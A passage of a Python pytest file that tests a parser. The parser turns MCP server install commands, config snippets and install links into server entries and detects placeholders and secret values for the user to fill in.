    for other in ("REPO=/srv/a\nclaude mcp add a -- node /x/index.js", "acme login\nclaude mcp add a -- npx a"):
        with pytest.raises(UnclearSourceError, match="has other lines"):
            recognize(other, HOME)


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("line", "name", "entry", "asked"),
    [
        ("npx -y add-mcp https://mcp.a.test/mcp -g -n A -y -a <agent>", "A", {"url": "https://mcp.a.test/mcp"}, []),
        ('npx add-mcp <MCP_URL> --header "Authorization: Bearer ${A}"', "server",
         {"url": "<MCP_URL>", "headers": {"Authorization": "Bearer ${A}"}}, ["url"]),
        ("npx add-mcp https://a.test/sse --transport sse", "a", {"url": "https://a.test/sse", "type": "sse"}, []),
        ("npx -y add-mcp@2 /srv/a --args mcp -n a", "a", {"command": "/srv/a", "args": ["mcp"]}, []),
        ('npx add-mcp "npx -y @b/a-mcp --c" -a cursor', "a", {"command": "npx", "args": ["-y", "@b/a-mcp", "--c"]}, []),
        ("npx add-mcp a-mcp --env A_TOKEN=your-token", "a",
         {"command": "npx", "args": ["-y", "a-mcp"], "env": {"A_TOKEN": "your-token"}}, ["env.A_TOKEN"]),
        ("npx install-mcp i https://a.test/mcp --client claude --oauth=no", "a", {"url": "https://a.test/mcp"}, []),
        ("npx -y install-mcp@latest @b/a-mcp --client cursor", "a", {"command": "npx", "args": ["-y", "@b/a-mcp"]}, []),
        ('mcp-add --name a --type http --url https://b.test/mcp --headers "A=b,C=d" --clients "x,y"', "a",
         {"url": "https://b.test/mcp", "headers": {"A": "b", "C": "d"}}, []),
        ('npx mcp-add --command "npx -y a-mcp /tmp" --env A=1,B=2 --scope global', "a",
         {"command": "npx", "args": ["-y", "a-mcp", "/tmp"], "env": {"A": "1", "B": "2"}}, []),
        ("claude mcp add -t sse a https://b.test/mcp -e X-Key=your-key -e Authorization=b", "a",
         {"url": "https://b.test/mcp", "type": "sse", "headers": {"X-Key": "your-key", "Authorization": "b"}},
         ["headers.X-Key"]),
        ("grok mcp add a -- a-mcp\ngrok mcp doctor a --probe\ngrok inspect", "a", {"command": "a-mcp"}, []),
        ('{"a": {"command": "a", "env": {"A": "valor", "B_KEYS": "b:AIza...", "C": "valores", "D": "b:c"}}}', "a",
         {"command": "a", "env": {"A": "valor", "B_KEYS": "b:AIza...", "C": "valores", "D": "b:c"}},
         ["env.A", "env.B_KEYS"]),
        ("claude mcp add a --npm-package @b/c-mcp", "a", {"command": "npx", "args": ["-y", "@b/c-mcp"]}, []),
        ("claude mcp add a --stdio a-mcp", "a", {"command": "a-mcp"}, []),
        ("claude mcp add a --unknown npx a-mcp", "a", {"command": "npx", "args": ["a-mcp"]}, []),
    ],
)  # fmt: skip
def test_a_line_of_a_program_that_installs_one_server_names_that_server(
    line: str, name: str, entry: dict[str, Any], asked: list[str]
) -> None:
    (one,) = recognize(line, HOME)
    assert (one.name, {key: value for key, value in one.entry.items() if value}) == (name, entry)
    assert [".".join(map(str, want.keys)) for want in one.wants] == asked


@pytest.mark.requirement("source-recognized", "source-refused")
def test_the_value_of_an_unknown_option_is_no_command_and_two_servers_are_two() -> None:
    with pytest.raises(UnclearSourceError, match="has no option --image, so"):
        recognize("claude mcp add a --image b/c", HOME)
    (one,) = recognize("claude mcp add --transport http a https://a.test/mcp -e A=b", HOME)
    assert (one.entry, one.left_out) == ({"url": "https://a.test/mcp"}, ("env",))
    both = recognize("npx add-mcp https://a.test/mcp\nnpx add-mcp https://b.test/mcp -y", HOME)
    assert [one.entry["url"] for one in both] == ["https://a.test/mcp", "https://b.test/mcp"]


@pytest.mark.requirement("source-recognized")
def test_install_links_of_further_clients_are_read() -> None:
    entry = {"command": "npx", "args": ["-y", "a-mcp"]}

    def encoded(document: Any) -> str:
        return base64.b64encode(json.dumps(document).encode()).decode()

    for link in (
        f"trae-cn://trae.ai-ide/mcp-import?type=stdio&name=a&config={encoded(entry)}",
        f"cherrystudio://mcp/install?servers={encoded({'mcpServers': {'a': entry}})}",
        f"raycast://mcp/install?{quote(json.dumps({'name': 'a', **entry}))}",
    ):
        assert [(one.name, one.entry) for one in recognize(link, HOME)] == [("a", entry)]
    for page in ("https://claude.ai/mcp/install?name=a", "https://a.test/i?name=a&x=1"):
        for config in (encoded(entry), quote(json.dumps(entry))):
            (one,) = recognize(f"[Add](https://img.test/x) or [here]({page}&config={config})", HOME)
            assert (one.name, one.entry) == ("a", entry)
    for address in (f"https://a.test/mcp?config={encoded(entry)}", f"https://a.test/x?config={encoded({'key': 'k'})}"):
        assert [one.entry for one in recognize(address, HOME)] == [{"url": address}]  # `config` is for the server
    assert recognize(f"https://a.test/x?config={'%5B' * 20_000}", HOME)[0].kind == "an address"
    with pytest.raises(UnclearSourceError, match="page for people"):
        recognize("https://claude.ai/settings/connectors?url=https://mcp.a.test/mcp", HOME)


@pytest.mark.requirement("source-recognized")
def test_a_runtime_argument_that_npx_would_take_for_a_package_stands_behind_the_server() -> None:
    words = [{"type": "positional", "value": "-y"}, {"type": "positional", "value": "launch-mcp"}]
    package = {"registryType": "npm", "identifier": "pop-pay", "version": "0.5.7", "runtimeArguments": words}
    (one,) = recognize(json.dumps({"name": "io.x/pop", "packages": [package]}), HOME)
    assert one.entry == {"command": "npx", "args": ["-y", "pop-pay@0.5.7", "launch-mcp"]}


@pytest.mark.requirement("source-recognized")
def test_lines_that_begin_with_an_option_belong_to_the_line_before() -> None:
    text = "claude mcp add stitch\n  --transport http\n  --url https://a.test/mcp\n  --header 'X-Key: ****'"
    (one,) = recognize(text, HOME)
    assert (one.name, one.entry["url"], [want.name for want in one.wants]) == (
        "stitch",
        "https://a.test/mcp",
        ["X-Key"],
    )


@pytest.mark.requirement("source-asked")
def test_what_a_gemini_extension_asks_its_user_for_is_asked_for() -> None:
    settings = [
        {"name": "API Key", "description": "Key", "envVar": "A_API_KEY"},
        {"name": "Project", "description": "(Optional) a project", "envVar": "A_PROJECT"},
    ]
    servers = {"a": {"command": "npx", "args": ["-y", "a-mcp"]}}
    (one,) = recognize(json.dumps({"name": "a", "version": "1", "settings": settings, "mcpServers": servers}), HOME)
    assert [(want.keys, want.secret, want.required) for want in one.wants] == [
        (("env", "A_API_KEY"), True, True), (("env", "A_PROJECT"), False, False),
    ]  # fmt: skip


@pytest.mark.requirement("source-recognized")
def test_the_newer_transport_of_a_server_json_comes_first() -> None:
    remotes = [{"type": kind, "url": f"https://a.test/{kind}"} for kind in ("sse", "streamable-http")]
    found = recognize(json.dumps({"name": "io.x/a", "remotes": remotes}), HOME)
    assert [one.entry.get("type") for one in found] == [None, "sse"]


@pytest.mark.requirement("source-asked")
def test_a_variable_that_codex_passes_on_is_asked_for_and_may_be_left_out() -> None:
    text = """[mcp_servers.a]
command = "npx"
args = ["-y", "a-mcp"]
env_vars = ["A_KEY", { name = "A_MODE", source = "local" }, "A_SET"]
env = { A_SET = "x" }"""
    (one,) = recognize(text, HOME)
    assert [(want.keys, want.secret, want.required) for want in one.wants] == [
        (("env", "A_KEY"), True, False), (("env", "A_MODE"), False, False),
    ]  # fmt: skip
    assert one.entry["env"] == {"A_KEY": "", "A_MODE": "", "A_SET": "x"}


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize(
    ("text", "marks"),
    [
        ("https://<A_URL>/mcp/A_TOKEN>/sse", ["<A_URL>", "A_TOKEN>"]),
        ("https://a.test/<TENANT/mcp", ["<TENANT"]),
        ("{{API_KEY}", ["{{API_KEY}"]),
        ("<your-token", ["<your-token"]),
        ("Bearer YOUR_KEY]", ["YOUR_KEY]"]),
        ("${API_KEY}", []),
        ('{"A_B": {"c": 1}}', []),
        ("a->b", []),
        ("MAX_SIZE > 5", []),
    ],
)
def test_a_placeholder_that_lost_a_bracket_is_one(text: str, marks: list[str]) -> None:
    assert placeholders_in(text) == marks


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize(
    ("name", "value", "asked"),
    [
        ("DB_PASSWORD", "access_key", True),
        ("DB_USER", "access_id", True),
        ("API_TOKEN", "api_key", True),
        ("DB_SERVER", "HOST OR IP", True),
        ("DB_NAME", "DATABASENAME", True),
        ("ACCOUNT", "Account ID", True),
        ("USE_AUTH", "FALSE|TRUE", True),
        ("USE_AUTH", "true or false", True),
        ("LOG_LEVEL", "debug|info|warn", True),
        ("DB_HOST", "default localhost", True),
        ("A", "Get it from https://a.test", True),
        ("ORG", "ORG", True),
        ("ORG", "org", False),
        ("DB_USER", "postgres", False),
        ("DB_HOST", "localhost", False),
        ("DB_PORT", "3306", False),
        ("DB_NAME", "ORDERS", False),
        ("MODE", "default", False),
        ("MODE", "read|write", False),
        ("DB_PASSWORD", "hunter2-and-more", False),
        ("ENABLED", "true", False),
    ],
)
def test_a_value_that_says_what_belongs_in_place_of_it_is_asked_for(name: str, value: str, asked: bool) -> None:
    (one,) = recognize(json.dumps({"a": {"command": "a", "env": {name: value}}}), HOME)
    assert [want.placeholder for want in one.wants] == ([value] if asked else [])


@pytest.mark.requirement("source-asked")
def test_a_value_that_only_names_its_default_may_be_left_out() -> None:
    (one,) = recognize('{"a": {"command": "a", "env": {"DB_PASSWORD": "default empty"}}}', HOME)
    assert [(want.secret, want.required) for want in one.wants] == [(True, False)]


@pytest.mark.requirement("source-recognized", "source-refused")
def test_server_json_names_the_registry_of_its_package() -> None:
    def args_of(kind: str, name: str, base: str) -> list[str]:
        package = {"registryType": kind, "identifier": name, "version": "1.0.0", "registryBaseUrl": base}
        (one,) = recognize(json.dumps({"name": "io.github.a/b", "packages": [package]}), HOME)
        return list(one.entry["args"])

    assert args_of("oci", "a/b", "https://docker.com")[-1] == "a/b:1.0.0"
    assert args_of("oci", "a/b", "https://images.acme.test")[-1] == "images.acme.test/a/b:1.0.0"
    assert args_of("oci", "images.acme.test/a/b", "https://images.acme.test")[-1] == "images.acme.test/a/b:1.0.0"
    assert args_of("pypi", "b", "https://pypi.io")[-1] == "b@1.0.0"
    for base in ("https://packages.acme.test", "https://pypi.io.acme.test", "acme"):
        with pytest.raises(UnclearSourceError):
            args_of("pypi", "b", base)


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("url", "is_asked"),
    [
        ("https://memory.example.com/mcp", True), ("https://example.org:8000/sse?a=b", True),
        ("https://a.example/", True), ("https://mcp.invalid", True), ("https://a.test/mcp", False),
        ("https://example-server.acme.io/mcp", False), ("https://example.com.acme.io/mcp", False),
        ("https://acme.io/example.com/", False),
    ],
)  # fmt: skip
def test_an_address_whose_host_can_only_be_an_example_is_asked_for(url: str, is_asked: bool) -> None:
    for text in (json.dumps({"a": {"url": url}}), f"claude mcp add --transport http a {url}", url):
        (one,) = recognize(text, HOME)
        assert [(want.name, want.placeholder, want.secret) for want in one.wants] == [("url", url, False)] * is_asked


@pytest.mark.requirement("source-recognized")
def test_the_folder_of_a_server_is_asked_for_where_the_author_writes_an_example() -> None:
    (one,) = recognize('{"x": {"command": "uv", "args": ["run", "x"], "cwd": "/path/to/x"}}', HOME)
    assert [want.keys for want in one.wants] == [("cwd",)]
    assert with_value(one.entry, one.wants[0], "/srv/x")["cwd"] == "/srv/x"


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "mark"),
    [
        ("https://your-org.example.net", "https://your-org.example.net"), ("https://x.example/YOUR_ID/sse", "YOUR_ID"),
        ("https://eu.yourcompany.com/mcp", "https://eu.yourcompany.com/mcp"), ("Bearer oh.YOUR_TOKEN", "oh.YOUR_TOKEN"),
        ("X-Api-Key:your.key", "your.key"), ("--url=https://your-host:8080", "https://your-host:8080"),
        ("postgresql://me:yourpassword@db/x", "postgresql://me:yourpassword@db/x"),
        ("me@your-host.example", "me@your-host.example"),
        ("https://my-server.acme.test/x", "https://my-server.acme.test/x"), ("pat_value", "pat_value"),
        ("m0-...", "m0-..."),
        ("http://127.0.0.1:1/mcp?project=/path/to/x", "/path/to/x"), ("/chemin/vers/x", "/chemin/vers/x"),
        ("https://mcp.<REGION>.example.com", "<REGION>"), ("https://localhost:{port}", "{port}"),
        ("p.xxx.xxx", "p.xxx.xxx"), ("http://192.168.x.x:80/mcp", "http://192.168.x.x:80/mcp"), (">=18.x", None),
        ("key-xxxxxxa,key-xxxxxxb", "key-xxxxxxa,key-xxxxxxb"), ("1.2.x.x.9", None),
        ("api-xxxxxxxx-xxxx-xxxx", "api-xxxxxxxx-xxxx-xxxx"), ("/abs/path/to/x.js", "/abs/path/to/x.js"),
        ("/path/to/data:/data", "/path/to/data"), ("C:/path/to/x.js", "C:/path/to/x.js"),
        ("export TOKEN=your_token_of_it &&", "your_token_of_it"),
        ("yourls-mcp", None), ("do what is yours", None), ("${env:HOME}/x", None), ("{{.Name}}", "{{.Name}}"),
        ("xxl", None), ("[path-to-folder]/x.json", "[path-to-folder]"), ("[a-z]+/x", None),
        ("path\\build\\index.js", "path\\build\\index.js"), ("path-mcp", None), ("a/path/b", None),
        ("out-dir, such as /Users/x/Desktop", "out-dir, such as /Users/x/Desktop"),
        ("{PATH TO FILE}/x.js", "{PATH TO FILE}"), ("/ABSOLUTE_PATH_TO/x.py", "/ABSOLUTE_PATH_TO/x.py"),
        ("postgresql://username:password@localhost/x", "postgresql://username:password@localhost/x"),
        ("postgresql://localhost:5432/x", None), ("me@BUILD_HOST", "me@BUILD_HOST"), ("me@BUILD", None),
        ("/path/to/x#pkg", "/path/to/x"), ("instance-name.acme.com", "instance-name.acme.com"),
        ('{"A": "Bearer ntn_API_KEY", "B": "1"}', "ntn_API_KEY"), ("ntn_API_KEYS", None), ("the-KEY-x", None),
        ("A.Mcp@x.x.x", "x.x.x"), ("sql://me:***@db/x", "***"),
        ("keychain:github-pat", "keychain:github-pat"), ("op://Work/a b/key", None),
        ("https://a.${config.b.c}/d", "${config.b.c}"), ("op://Your-Vault/a/MY_KEY", "op://Your-Vault/a/MY_KEY"),
        ("D:/path/to/x;D:/path/to/y", "D:/path/to/x;D:/path/to/y"),
        ("https://seu-server.acme.test/mcp", "https://seu-server.acme.test/mcp"), ("Bearer SEU_TOKEN", "SEU_TOKEN"),
        ("https://tu-proyecto.acme.test", "https://tu-proyecto.acme.test"), ("la-tua-api-key", "la-tua-api-key"),
        ("tu-api-key-aqui", "tu-api-key-aqui"), ("votre-cle", "votre-cle"), ("dein-api-key", "dein-api-key"),
        ("/полный/путь/к/a.js", "/полный/путь/к/a.js"), ("/полный/a.js", None),
        ("https://a.seudominio.com/x", "https://a.seudominio.com/x"), ("tu@correo.com", "tu@correo.com"),
        ("https://tudor.test", None), ("https://seut.test", None),
        ("...as printed by x", "...as printed by x"), ("./...", None), ("${projectRoot}/a", "${projectRoot}"),
        ("${projectName}/a", None), ("API_ANAHTARINIZ", "API_ANAHTARINIZ"), ("dinar", None),
        ("https://ваш-домен.ru", "https://ваш-домен.ru"), ("jouw-api-sleutel", "jouw-api-sleutel"),
        ("IHR_TOKEN", "IHR_TOKEN"),
        ("ta-cle", "ta-cle"), ("@b/[NEXT-MCP-N]-mcp", "[NEXT-MCP-N]"),
        ("https://dein-apotheker.test", None), ("https://tu-dortmund.test/api", None), ("https://ton-api.test", None),
        ("su-exec", None), ("ta-lib", None), ("tu-berlin-api", None), ("ihr-mcp", None), ("/srv/ton-server", None),
    ],
)  # fmt: skip
def test_an_example_of_the_author_in_the_middle_of_a_text_is_a_placeholder(text: str, mark: str | None) -> None:
    assert placeholder_in(text) == mark


@pytest.mark.requirement("source-recognized", "source-secrets")
@pytest.mark.parametrize(
    ("text", "asked"),
    [
        ("YOUR_ACCOUNT_SID/YOUR_API_KEY:YOUR_API_SECRET",
         [("YOUR_ACCOUNT_SID", True), ("YOUR_API_KEY", True), ("YOUR_API_SECRET", True)]),
        ("https://HOST/mcp/SUBDOMAIN", [("HOST", False), ("SUBDOMAIN", False)]),
        ("https://your-org.acme.com/mcp?a=YOUR_TOKEN", [("your-org.acme.com", False), ("YOUR_TOKEN", True)]),
        ("postgresql://YOUR_USER:YOUR_PASSWORD@YOUR_HOST:5432/YOUR_DB",
         [("YOUR_USER", False), ("YOUR_PASSWORD", True), ("YOUR_HOST", False), ("YOUR_DB", False)]),
        ("X-Key: YOUR_KEY, X-Org: YOUR_ORG", [("YOUR_KEY", True), ("YOUR_ORG", False)]),
        ("https://xxx.acme.com/mcp?ref=xxx", [("xxx", False)]),
        ("https://a.test/mcp?a=KEY&b=SECRET", [("KEY", True), ("SECRET", True)]),
        ("/path/to/a:/path/to/b", [("/path/to/a", False)]), ("WORKSPACE", [("WORKSPACE", False)]), ("POST", []),
    ],
)  # fmt: skip
def test_each_of_several_placeholders_in_one_text_is_asked_for(text: str, asked: list[tuple[str, bool]]) -> None:
    (one,) = recognize(json.dumps({"a": {"command": "a", "args": [text]}}), HOME)
    assert [(want.placeholder, want.secret) for want in one.wants] == asked


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("given", "url"),
    [
        (("a.test", "b"), "https://a.test/mcp/b"), (("https://a.test/mcp/b", "b"), "https://a.test/mcp/b"),
        (("https://a.test", "b"), "https://a.test/mcp/b"), (("a.test", "https://a.test/mcp/b"), "https://a.test/mcp/b"),
    ],
)  # fmt: skip
def test_a_value_with_the_text_around_it_replaces_only_its_placeholder(given: tuple[str, str], url: str) -> None:
    (one,) = recognize('{"a": {"url": "https://HOST/mcp/SUBDOMAIN"}}', HOME)
    assert [want.name for want in one.wants] == ["url HOST", "url SUBDOMAIN"]
    entry = one.entry
    for want, value in zip(one.wants, given, strict=True):
        entry = with_value(entry, want, own_part(one, want, value))
    assert entry["url"] == url


@pytest.mark.requirement("source-recognized")
def test_what_a_snippet_asks_for_is_asked_for_once_and_never_taken_from_another_server() -> None:
    document = {
        "inputs": [{"id": "apiKey", "type": "promptString", "description": "Key", "password": True}],
        "servers": {"x": {"command": "npx", "args": ["x", "${input:apiKey}"], "env": {"KEY": "${input:apiKey}"}}},
    }
    (one,) = recognize(json.dumps(document), HOME)
    first, second = one.wants
    assert {(want.name, want.description, want.secret, want.shared) for want in one.wants} == {
        ("apiKey", "Key", True, True)
    }
    entry = with_value(with_value(one.entry, first, "${keyring:x.apiKey}"), second, "${keyring:x.apiKey}")
    assert entry == {"command": "npx", "args": ["x", "${keyring:x.apiKey}"], "env": {"KEY": "${keyring:x.apiKey}"}}


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "entry"),
    [
        ("droid mcp add x 'npx x-mcp' --env KEY=v", {"command": "npx", "args": ["x-mcp"], "env": {"KEY": "v"}}),
        (
            "claude mcp add --client-id me --client-secret --callback-port 8080 x https://a.example/mcp",
            {"url": "https://a.example/mcp", "client_secret": "", "client_id": "me", "callback_port": 8080},
        ),
        ("codex mcp add x '/opt/My App/x' serve", {"command": "/opt/My App/x", "args": ["serve"]}),
        ('{"name": "x", "config": {"command": "npx", "args": ["x-mcp"]}}', {"command": "npx", "args": ["x-mcp"]}),
    ],
)  # fmt: skip
def test_options_behind_a_quoted_command_and_an_entry_with_its_name_beside_it(text: str, entry: dict[str, Any]) -> None:
    (one,) = recognize(text, HOME)
    assert (one.name, one.entry) == ("x", entry)


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "line", "wants"),
    [
        # the current folder of an editor or a shell
        ('{"servers": {"x": {"command": "npx", "args": ["a", "${workspaceFolder}"]}}}', "npx a ${workspaceFolder}",
         ["workspaceFolder"]),
        ('claude mcp add x -- npx a --project "$(pwd)"', "npx a --project ${PWD}", ["PWD"]),
        ("claude mcp add x -- docker run -i -v $PWD:/w acme/a", "docker run -i -v ${PWD}:/w acme/a", ["PWD"]),
        # lists of servers, and keys of unknown clients that hold servers
        ('[[mcp_servers]]\nname = "x"\ncommand = "npx"\nargs = ["a"]', "npx a", []),
        ('[{"name": "x", "command": "npx", "args": ["a"]}]', "npx a", []),
        ('{"mcp": {"servers": [{"id": "x", "command": "npx", "args": ["a"]}]}}', "npx a", []),
        ('{"some.chat.mcpServers": {"x": {"command": "npx", "args": ["a"]}}}', "npx a", []),
        ('"context_servers": [\n "x": {"command": "npx", "args": ["a"]}\n],', "npx a", []),
        ("default:\n  kits:\n  - name: y\n  - needs: {servers: [{name: x, command: npx, args: [a]}]}", "npx a", []),
        ("mcp_tools:\n  x:\n    command: npx\n    args: [a]", "npx a", []),
        ("---\nname: agent\nmcpServers:\n  - x: {command: npx, args: [a]}\n  - other\n---\nBe kind.", "npx a", []),
        ('{"mcpServers": {"other": { ... }, "x": {"command": "npx", "args": ["a"]}}}', "npx a", []),
        # prose around a configuration
        ('Add this:\n\n```json\n{"mcpServers": {"x": {"command": "npx", "args": ["a"]}}}\n```\nThen restart.',
         "npx a", []),
        ('```json\n{"mcpServers": {"x": {"command": "npx", "args": ["a"]}}}\n```\n```\nclaude mcp add x -- npx a\n```',
         "npx a", []),
        ('Edit its.json { "mcpServers": { "x": { "command": "npx", "args": [ "a" ] } } } and restart.', "npx a", []),
        ("Claude Code:\nclaude mcp add x -- npx a\nThen restart it.", "npx a", []),
        ('Docker must run. Add:\n\n[mcp_servers.x]\ncommand = "npx"\nargs = ["a"]\n\nRestart.', "npx a", []),
        ("Add below\n\nextensions:\n  x:\n    type: stdio\n    cmd: npx\n    args: [a]\n\nRestart.", "npx a", []),
        ("Add:\n\nx:\n  command: npx\n  args:\n    - a\n    - A b c\n\nDone", "npx a 'A b c'", []),
        ("Run it:\nclaude mcp add x -- npx a \\\n  --in ~/\u00e4 \\\n  Then\nFine.",
         "npx a --in /home/me/\u00e4 Then", []),
        ("Use `npx`, as `claude mcp add x -- npx a`, and `~/Library/Application Support/b.json`.", "npx a", []),
        ("Claude:\nclaude mcp add-json x '{\"command\":\"npx\",\"args\":[\"a\"]}'\nIt is `x-mcp config`.", "npx a", []),
        ('```\nnpm run b\n{"mcpServers": {"x": {"command": "npx", "args": ["a"]}}}\n```\n```\nb\n```', "npx a", []),
        ('```\n{"x": {"command": "npx", "args": ["a"]}}\n```\n```\nnpx -y a\n```', "npx a", []),
        ("[Codex](https://a.test) reads:\n\n[mcp_servers.x]\ncommand = 'npx'\nargs = ['a']\n\nSee `codex mcp`.",
         "npx a", []),
        ("```\n/mcp add\n```\n```\nclaude mcp add x -- npx a\n```", "npx a", []),
        ('{"mcpServers": {"x": {"command": "npx", "args": ["a"]}},'
         ' "servers": {"x": {"type": "stdio", "command": "npx", "args": ["a"], "env": {"K": "your-key"}}}}',
         "npx a", ["K"]),
        ('# 1. Start it\nnpm start\n# 2. Add\n{\n"x": {"command": "npx", "args": ["a"]}\n}', "npx a", []),
        # prompts, and the output of commands
        ("user@local $ hermes mcp add x --command npx --args a", "npx a", []),
        ("(venv) $ claude mcp add x -- npx a\nAdded x to the file.", "npx a", []),
        ("PS C:\\src> claude mcp add x -- npx a", "npx a", []),
        ("[me@box ~]# claude mcp add x -- npx a", "npx a", []),
        ("Run:\n\n(.venv) PS C:\\src> claude mcp add x -- npx a\n\nThen restart.", "npx a", []),
        ("$ claude mcp add x \\\n>   -- npx a", "npx a", []),
        ("% claude mcp add x -- npx a", "npx a", []),
        ('# Run:\nfoo --bar 1\n\n# Or:\n# {\n#  "mcpServers": {"x":\n#   {"command": "npx", "args": ["a"]}}\n# }',
         "npx a", []),
        # commands of clients
        ("claude mcp add x -- npx a\nclaude mcp list", "npx a", []),
        ("docker pull acme/a\nclaude mcp add x -- docker run -i acme/a", "docker run -i acme/a", []),
        ("claude mcp add x --scope user -- npx a\ncodex mcp add x -- npx a", "npx a", []),
        ("claude mcp add x npx a --scope user", "npx a", []),
        ("npx -y @anthropic-ai/claude-code@latest mcp add x npx a", "npx a", []),
        ("claude mcp add-json x '{\"command\": \"npx\", \"args\": [\"a\"]}' --config ~/c.json", "npx a", []),
        ("claude mcp add x -- npx a --key <your own key>", "npx a --key '<your own key>'", ["key"]),
        # links
        ("https://cursor.com/install-mcp?name=x&config="
         + base64.b64encode(b"%7B%22command%22%3A%22npx%22%2C%22args%22%3A%5B%22a%22%5D%7D").decode(), "npx a", []),
        ("vscode:mcp/install?name=x&command=npx&args=%5B%22a%22%5D", "npx a", []),
    ],
    ids=lambda value: value[:24] if isinstance(value, str) else "",
)  # fmt: skip
def test_a_server_is_found_in_every_form(text: str, line: str, wants: list[str]) -> None:
    (one,) = recognize(text, HOME)
    command, *args = shlex.split(line)
    assert (one.name, one.entry["command"], one.entry["args"]) == ("x", command, args)
    assert [want.name for want in one.wants] == wants


@pytest.mark.requirement("source-recognized")
def test_a_value_that_a_container_takes_from_outside_is_asked_for_and_may_be_left_out() -> None:
    (one,) = recognize("docker run -i --rm -e TOKEN -e MODE=a acme/x -e IGNORED", HOME)
    (want,) = one.wants
    assert (want.name, want.secret, want.required) == ("TOKEN", True, False)
    assert "env" not in with_value(one.entry, want, "")
    assert with_value(one.entry, want, "v")["env"] == {"TOKEN": "v"}
    (one,) = recognize("export TOKEN=abc\ndocker run -i -e TOKEN acme/x", HOME)
    assert one.entry["env"] == {"TOKEN": "abc"}


@pytest.mark.requirement("source-secrets")
def test_what_its_owner_reads_later_is_no_secret_and_what_is_unknown_is_one() -> None:
    names = {"A_HOST": False, "ODOO_DB": False, "A_EMAIL": False, "A_URL": False, "A_PASSWORD": True, "A_SETTING": True}
    names |= {"VM_INSTANCE_TYPE": False, "IMAP_USE_SSL": False, "A_ENGINE": False, "A_USER_ID": False, "A_ID": False}
    names |= {"ACCESS_KEY_ID": True, "USE_TOKEN": True}
    names |= {"A_BASE_URL": False, "A_WORKSPACE_SLUG": False, "A_ACCOUNT_ID": False, "A_API_PREFIX": False}
    names |= {"DATABASE_URL": True, "SESSION_ID": True, "CLIENT_SECRET": True, "A_ONLY": False, "REDIS_URL": True}
    names |= {
        "CHAT_ID": False,
        "A_UUID": False,
        "ROLE_ARN": False,
        "X-Agent-Id": False,
        "GRID": True,
        "KEY_ID": True,
        "A_IP": False,
    }
    names |= {
        "WEBHOOK_URL": True,
        "A_RPC_URL": True,
        "AUTH_URL": False,
        "THINGS_URI": False,
        "A_IP": False,
    }
    (one,) = recognize(json.dumps({"a": {"command": "a", "env": dict.fromkeys(names, "<yours>")}}), HOME)
    assert {want.name: want.secret for want in one.wants} == names
    inputs: list[dict[str, Any]] = [{"id": "ado_org"}, {"id": "ado_key"}, {"id": "ado_team", "password": True}]
    servers = {"a": {"command": "a", "args": [f"${{input:{one['id']}}}" for one in inputs]}}
    (one,) = recognize(json.dumps({"inputs": inputs, "servers": servers}), HOME)
    assert [want.secret for want in one.wants] == [False, True, True]
    (one,) = recognize('{"a": {"url": "https://a.test/mcp?token=YOUR_TOKEN"}}', HOME)
    assert [want.secret for want in one.wants] == [True]


@pytest.mark.requirement("source-recognized")
def test_a_server_gets_no_terminal_and_a_plain_name() -> None:
    (one,) = recognize("docker run --rm -it acme/x -t stdio", HOME)
    assert one.entry["args"] == ["run", "--rm", "-i", "acme/x", "-t", "stdio"]
    (one,) = recognize('{"mcpServers": {"a/b": {"command": "x"}}}', HOME)
    assert one.name == "a-b"


@pytest.mark.requirement("source-recognized")
def test_words_of_the_server_among_the_runtime_arguments_stand_behind_its_package() -> None:
    words = [{"type": "named", "name": "-p", "value": "3.13"}, {"type": "positional", "value": "start"}]
    package = {"registryType": "pypi", "identifier": "files", "version": "1", "runtimeArguments": words}
    (one,) = recognize(json.dumps({"name": "io.github.a/files", "packages": [package]}), HOME)
    assert one.entry["args"] == ["-p", "3.13", "files@1", "start"]


@pytest.mark.requirement("source-refused")
@pytest.mark.timeout(stretched(20.0))
@pytest.mark.parametrize(
    "text", ["your_" + "a" * 5000 + "!", "https://" + "a-" * 5000 + "!", "a-" * 5000 + "!", "[" + "ab " * 5000]
)
def test_a_long_value_takes_no_time_that_grows_with_its_parts(text: str) -> None:
    (one,) = recognize(json.dumps({"mcpServers": {"x": {"command": "x", "env": {"A": text}}}}), HOME)
    assert one.entry["env"] == {"A": text}


@pytest.mark.requirement("source-refused")
@pytest.mark.timeout(stretched(5.0))
def test_a_long_line_takes_no_time_that_grows_with_its_square() -> None:
    (one,) = recognize("npx a" + " " * 30_000 + "b", HOME)
    assert one.entry["args"] == ["a", "b"]
    (two,) = recognize("hermes mcp add a --command x --args " + "b " * 16_000, HOME)
    assert len(two.entry["args"]) == 16_000


@pytest.mark.requirement("source-refused")
@pytest.mark.timeout(stretched(5.0))
def test_a_long_text_of_nothing_but_marks_of_addresses_takes_no_time_that_grows_with_its_square() -> None:
    (one,) = recognize('{"x": {"command": "npx", "args": ["a", "' + "://" * 30_000 + '"]}}', HOME)
    assert one.entry["args"] == ["a", "://" * 30_000]


@pytest.mark.requirement("source-refused")
@pytest.mark.timeout(stretched(20.0))
@pytest.mark.parametrize(
    "text",
    [
        "npx a" + " " * 900_000 + "b", "npx " * 240_000, "npx a " + "://" * 300_000, "A=b " * 200_000 + "npx x",
        "claude mcp add x -- npx y " + "\\\n --a b" * 80_000, "claude mcp add x -- npx 'y\n" + "a\n" * 400_000,
        '"' * 990_000, "claude mcp add a -- npx x\n" * 30_000, "[mcp_servers." + "a." * 300_000 + 'b]\ncommand = "x"',
        '{"a": {"command": "npx", "args": ["x"' + ', "${A}"' * 100_000 + "]}}",
        '{"name": "io.a/b", "remotes": [' + '{"type": "sse", "url": "https://a.test/{c}"}, ' * 15_000 + "{}]}",
        json.dumps({"mcpServers": {f"s{number}": {"command": "npx", "args": ["x"]} for number in range(18_000)}}),
    ],
    ids=lambda text: repr(text[:24]),
)  # fmt: skip
def test_more_than_anybody_reads_before_a_yes_is_refused_at_once(text: str) -> None:
    """Each text is refused within a second on a machine of 2026. Without the limits, some texts took minutes."""
    with pytest.raises(UnclearSourceError, match=r"A line has|are .* lines|servers in this text have"):
        recognize(text, HOME)


def test_a_program_below_a_placeholder_with_blanks_is_one_word() -> None:
    command = "<your path to the Acme executable>/acme-mcp"
